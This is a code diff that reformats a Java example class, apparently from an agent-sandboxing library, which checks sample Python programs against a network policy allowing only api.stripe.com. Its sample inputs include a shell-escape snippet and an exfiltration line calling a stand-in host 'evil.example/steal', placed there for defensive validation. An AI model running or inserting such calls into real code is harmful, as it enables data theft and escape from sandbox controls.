@@ -18,8 +18,7 @@ import java.util.Map;
  * <p>Run: {@code java -cp examples/target/agentic.jar dev.agentic.examples.scenarios.ValidateOnly}
  */
 public final class ValidateOnly {
-    private ValidateOnly() {
-    }
+    private ValidateOnly() {}
 
     public static void main(String[] args) {
         run(new PrintWriter(System.out, true));
@@ -34,12 +33,16 @@ public final class ValidateOnly {
         NetworkPolicy network = NetworkPolicy.allow("api.stripe.com");
 
         Map<String, Code> programs = new LinkedHashMap<>();
-        programs.put("ordinary API call", Code.python(String.join("\n",
-                "import os, requests",
-                "r = requests.post('https://api.stripe.com/v1/customers',",
-                "                  headers={'Authorization': 'Bearer ' + os.environ['STRIPE_API_KEY']},",
-                "                  data={'name': 'Alice'}, timeout=10)",
-                "print(r.json()['id'])", "")));
+        programs.put(
+                "ordinary API call",
+                Code.python(String.join(
+                        "\n",
+                        "import os, requests",
+                        "r = requests.post('https://api.stripe.com/v1/customers',",
+                        "                  headers={'Authorization': 'Bearer ' + os.environ['STRIPE_API_KEY']},",
+                        "                  data={'name': 'Alice'}, timeout=10)",
+                        "print(r.json()['id'])",
+                        "")));
         programs.put("shell escape", Code.python("import subprocess\nsubprocess.run(['sh', '-c', 'id'])\n"));
         programs.put("exfiltration", Code.python("import requests\nrequests.get('https://evil.example/steal')\n"));
 
